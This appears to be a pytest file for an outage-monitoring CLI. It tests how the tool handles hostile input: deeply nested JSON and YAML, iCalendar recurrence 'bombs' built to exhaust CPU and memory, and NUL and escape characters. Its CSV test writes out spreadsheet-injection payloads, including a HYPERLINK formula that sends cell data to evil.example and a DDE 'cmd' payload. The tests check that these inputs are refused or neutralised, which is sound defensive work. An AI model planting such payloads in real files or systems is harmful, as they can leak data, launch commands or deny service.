    """The CLI's handlers carry the sanitising filter; warnings.warn goes through logging too."""
    import warnings

    from monitor.cli import _setup_logging
    root = logging.getLogger()
    saved = root.handlers[:]
    root.handlers = []
    try:
        with warnings.catch_warnings():  # pytest records warnings itself; let them reach logging here
            warnings.simplefilter("always")
            logging.captureWarnings(False)  # an earlier main() in this process may have captured them
            _setup_logging(0)
            logging.getLogger("matplotlib.font_manager").warning("findfont: %s", ESCAPES + "\x00")
            warnings.warn("Glyph 27 (\x1b) missing from font(s) DejaVu Sans." + ESCAPES, UserWarning, stacklevel=1)
            logging.captureWarnings(False)
    finally:
        for handler in root.handlers:
            handler.flush()
        root.handlers = saved
    err = capsys.readouterr().err
    assert "findfont" in err and "Glyph 27" in err
    assert not _only_safe_characters(err), _only_safe_characters(err)


def _deep(opener: str, closer: str, size: int) -> str:
    depth = size // (len(opener) + len(closer))
    return opener * depth + "1" + closer * depth


@pytest.mark.parametrize("source", ["ioda", "ripe-atlas", "cloudflare-radar", "ripestat"])
@pytest.mark.parametrize("nest", [("[", "]"), ('{"data":', "}")], ids=["lists", "objects"])
def test_deeply_nested_answers_are_one_line_errors(source, nest, httpserver, tmp_path, capsys, monkeypatch):
    """Issue 19 #3: a 400 kB answer of nested `[[[...]]]` was an uncaught RecursionError in `collect`."""
    monkeypatch.setenv("CLOUDFLARE_API_TOKEN", "token-for-the-test")
    httpserver.expect_request(re.compile(".*")).respond_with_data(_deep(*nest, 400_000),
                                                                  content_type="application/json")
    rc = main(["--db", f"sqlite:///{tmp_path}/t.db", "collect", source, "--entity", "country/IR", "--from",
               "2019-11-16", "--until", "2019-11-17", "--base-url", httpserver.url_for("/")])
    shown = capsys.readouterr()
    assert rc == 1 and "Traceback" not in shown.out + shown.err
    assert f"nested more than {monitor_text.MAX_JSON_DEPTH} levels deep" in shown.out + shown.err


@pytest.mark.parametrize("fmt,body", [
    ("acled", _deep("[", "]", 400_000)), ("acled", _deep('{"data":', "}", 400_000)),
    ("yaml", "- " * 100_000 + "x\n"), ("yaml", _deep("[", "]", 200_000)), ("yaml", _deep("{a: ", "}", 200_000))],
    ids=["acled lists", "acled objects", "yaml block", "yaml flow lists", "yaml flow maps"])
def test_deeply_nested_files_are_one_line_errors(fmt, body, tmp_path, capsys):
    """Issue 19 #3: the ACLED import and a 200 kB YAML nested 100,000 deep ended in RecursionError."""
    path = tmp_path / f"deep.{'json' if fmt == 'acled' else 'yaml'}"
    path.write_text(body, encoding="utf-8")
    rc = main(["--db", f"sqlite:///{tmp_path}/t.db", "events", "import", str(path), "--format", fmt,
               "--country", "IR"])
    err = capsys.readouterr().err
    assert rc == 2 and len(err.strip().splitlines()) == 1 and "nested more than" in err, err[-300:]


CALENDAR_BOMBS = {
    "10 x SECONDLY COUNT=9999 (1.7 kB)": ("FREQ=SECONDLY;COUNT=9999", 10),
    "300 x SECONDLY COUNT=9999 (49 kB)": ("FREQ=SECONDLY;COUNT=9999", 300),
    "10 x never matching (1.8 kB)": ("FREQ=DAILY;BYMONTH=2;BYMONTHDAY=30", 10),
    "300 x never matching, SECONDLY (49 kB)": ("FREQ=SECONDLY;BYMONTH=2;BYMONTHDAY=30", 300),
    "10 x BYSETPOS that never selects": ("FREQ=SECONDLY;BYSETPOS=2", 10),
}


def calendar_bomb(rule: str, events: int) -> str:
    vevents = "".join(f"BEGIN:VEVENT\r\nUID:bomb-{i}\r\nDTSTART:20200101T000000Z\r\nDTEND:20200101T000001Z\r\n"
                      f"SUMMARY:b\r\nRRULE:{rule}\r\nEND:VEVENT\r\n" for i in range(events))
    return f"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nX-COUNTRY:IR\r\n{vevents}END:VCALENDAR\r\n"


@pytest.mark.parametrize("name", CALENDAR_BOMBS)
def test_calendar_bombs_are_refused_within_10_s_and_500_mb(name, tmp_path, figures):
    """Issue 19 #4: the occurrence cap was per UID, and a rule that never matches cost ~10 s of
    CPU; 10 events took 51 s and 546 MB, 300 were killed at 300 s and 6 GB. A real `events
    import` process over the importer's default window (1970 to a year ahead)."""
    rule, events = CALENDAR_BOMBS[name]
    path = tmp_path / "bomb.ics"
    path.write_text(calendar_bomb(rule, events), encoding="utf-8")
    assert path.stat().st_size <= 50_000
    code = f"""
        import resource, sys
        from monitor.cli import main
        rc = main(["--db", "sqlite:///{tmp_path}/t.db", "events", "import", "{path}"])
        use = resource.getrusage(resource.RUSAGE_SELF)
        # Peak memory of this process: VmHWM, not ru_maxrss, which Linux carries over exec from the
        # forked parent (a pytest process that fuzzed for minutes showed its own 866 MB here).
        peak = [int(l.split()[1]) for l in open("/proc/self/status") if l.startswith("VmHWM:")]
        print("rc", rc, "maxrss_mb", (peak[0] if peak else use.ru_maxrss) // 1024, "cpu", use.ru_utime + use.ru_stime)
    """
    began = time.monotonic()
    done = run_bounded(code, seconds=30)  # wall time only guards against a hang: the machine may be shared
    seconds = time.monotonic() - began
    assert done is not None, f"{name}: not done in 30 s"
    rc, mb, cpu = done.stdout.split()[1], int(done.stdout.split()[3]), float(done.stdout.split()[5])
    figures.add(kind="bomb", calendar=name, bytes=path.stat().st_size, seconds=round(seconds, 1), cpu=round(cpu, 1),
                maxrss_mb=mb, exit=int(rc), detail=done.stderr.strip().split(".ics: ", 1)[-1])
    assert rc == "2" and mb < 500 and cpu < 10, (done.stdout, done.stderr[-300:])
    assert "ics_max_" in done.stderr and len(done.stderr.strip().splitlines()) == 1, done.stderr[-300:]


def test_calendar_budget_is_configurable(tmp_path, capsys):
    """[events] ics_max_occurrences lets a big calendar in (or keeps a small budget small)."""
    path = tmp_path / "daily.ics"
    path.write_text(calendar_bomb("FREQ=HOURLY;COUNT=50", 3), encoding="utf-8")
    config = tmp_path / "monitor.toml"
    config.write_text("[events]\nics_max_occurrences = 100\n", encoding="utf-8")
    db = f"sqlite:///{tmp_path}/t.db"
    assert main(["--db", db, "--config", str(config), "events", "import", str(path)]) == 2
    assert "more than 100 occurrences" in capsys.readouterr().err
    config.write_text("[events]\nics_max_occurrences = 150\n", encoding="utf-8")
    assert main(["--db", db, "--config", str(config), "events", "import", str(path)]) == 0
    config.write_text("[events]\nics_max_occurences = 1\n", encoding="utf-8")
    assert main(["--db", db, "--config", str(config), "events", "import", str(path)]) == 2
    assert "unknown key 'ics_max_occurences'" in capsys.readouterr().err


def test_nul_and_controls_in_event_text_are_cleaned_on_the_way_in(store_url, tmp_path, capsys):
    """Issue 19 #5: one NUL in a title failed the whole import on PostgreSQL, naming no row."""
    ics = calendar_bomb("FREQ=DAILY;COUNT=1", 1).replace("SUMMARY:b", "SUMMARY:Strike\x00 day\x1b[2J\x08")
    path = tmp_path / "nul.ics"
    path.write_bytes(ics.encode("utf-8"))
    for mode in ("--strict", "--skip-bad"):
        assert main(["--db", store_url, "events", "import", str(path), mode]) == 0, capsys.readouterr().err
    store = open_store(store_url)
    try:
        [title] = store.read_events()["title"].tolist()
    finally:
        store.close()
    assert title == "Strike\ufffd day\ufffd[2J\ufffd"


def test_a_frame_with_unstorable_text_is_refused_naming_the_row():
    from monitor.events.model import validate_events
    frame = pd.DataFrame([{"uid": "u1", "source": "nb", "kind": "other", "country": "IR", "region": None,
                           "start": pd.Timestamp("2019-11-16", tz="UTC"), "end": pd.Timestamp("2019-11-17", tz="UTC"),
                           "all_day": True, "title": "bad\x00title", "url": None, "description": None, "raw": None}])
    with pytest.raises(MonitorError, match=r"event nb:u1 field title = 'bad\\x00title': holds NUL"):
        validate_events(frame, "notebook")


@pytest.mark.parametrize("command", [["status"], ["health"], ["signals", "export", "--entity", "country/IR"],
                                     ["events", "list"], ["collect", "ioda", "--entity", "country/IR"]])
def test_a_store_path_the_system_refuses_is_one_line(command, tmp_path, capsys):
    """Issue 19 #6: a SQLite file name over 255 characters ended in an OSError traceback."""
    rc = main(["--db", f"sqlite:///{tmp_path}/{'a' * 300}.db", *command])
    err = capsys.readouterr().err
    assert rc == 2 and len(err.strip().splitlines()) == 1 and "File name too long" in err, err[-300:]


def test_csv_output_neutralises_spreadsheet_formulas(tmp_path, capsys):
    """Issue 19 #7: `events list --format csv` wrote `=HYPERLINK(...)` titles as they were (OWASP)."""
    db = f"sqlite:///{tmp_path}/t.db"
    titles = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
              "\t=1", " =1", "Ordinary = title"]
    feed = tmp_path / "f.csv"
    with feed.open("w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh)
        writer.writerow(["uid", "country", "start", "end", "kind", "title", "url"])
        writer.writerows([f"u{i}", "IR", "2019-11-16", "2019-11-16", "protest", t, ""] for i, t in enumerate(titles))
    assert main(["--db", db, "events", "import", str(feed)]) == 0
    capsys.readouterr()
    assert main(["--db", db, "events", "list", "--format", "csv"]) == 0
    out = capsys.readouterr().out
    rows = list(csv.DictReader(io.StringIO(out)))
    shown = {r["uid"]: r["title"] for r in rows}
    for i, title in enumerate(titles[:-1]):
        assert shown[f"u{i}"].startswith("'") and shown[f"u{i}"].endswith(title.strip()), (title, shown[f"u{i}"])
    assert shown["u6"] == "Ordinary = title"
    for row in rows:
        for cell in row.values():
            assert cell.lstrip(" ")[:1] not in ("=", "+", "-", "@", "\t", "\r") or cell[:1] == "'" or \
                cell.replace("-", "").replace(":", "").replace("T", "").replace("+", "").isdigit(), cell
